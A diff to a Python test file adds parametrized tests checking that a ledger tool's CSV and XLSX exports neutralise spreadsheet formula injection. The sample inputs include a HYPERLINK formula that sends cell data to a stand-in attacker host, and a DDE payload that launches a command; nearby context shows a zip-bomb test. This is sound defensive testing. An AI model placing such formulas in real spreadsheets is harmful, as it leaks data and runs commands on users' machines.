@@ -172,3 +172,37 @@ def test_limits_hold_through_the_library_too(ledger: MissionLedger) -> None:
         z.writestr("xl/sharedStrings.xml", b" " * (200 << 20), compress_type=zipfile.ZIP_DEFLATED)
     with pytest.raises(BadInput, match="shared strings|inflates"):
         import_file(ledger, buffer.getvalue(), name="x.xlsx")
+
+
+# --- 5. formula injection ---------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+
+
+@pytest.mark.parametrize("note", FORMULAS)
+def test_exports_hold_no_live_formula_and_import_back_unchanged(ml: Ledger, note: str) -> None:
+    import csv
+
+    import openpyxl
+
+    record_roads(ml)
+    ok(ml("correct", "6810103", "INF-01", "--set", f"note={note}", "--reason", "r"))
+    note = note.strip()  # text fields are stored without surrounding blanks
+    csv_out, xlsx_out = ml.folder / "out.csv", ml.folder / "out.xlsx"
+    ok(ml("export", "--out", str(csv_out)))
+    ok(ml("export", "--format", "xlsx", "--out", str(xlsx_out)))
+    with csv_out.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert rows[0]["note"] == "'" + note  # shown as text by Excel and LibreOffice
+    with zipfile.ZipFile(xlsx_out) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    cells = {c.value: c.data_type for c in openpyxl.load_workbook(xlsx_out).active[2]}
+    assert cells[note] == "s"
+    before = size_of(ml)
+    for path in (csv_out, xlsx_out):
+        out = ok(ml("import", str(path)))
+        assert "nothing appended" in out, out
+    assert size_of(ml) == before
+    printed = list(csv.reader(io.StringIO(ok(ml("as-of", "--csv")).lstrip("\ufeff"))))
+    assert printed[1][printed[0].index("note")] == "'" + note
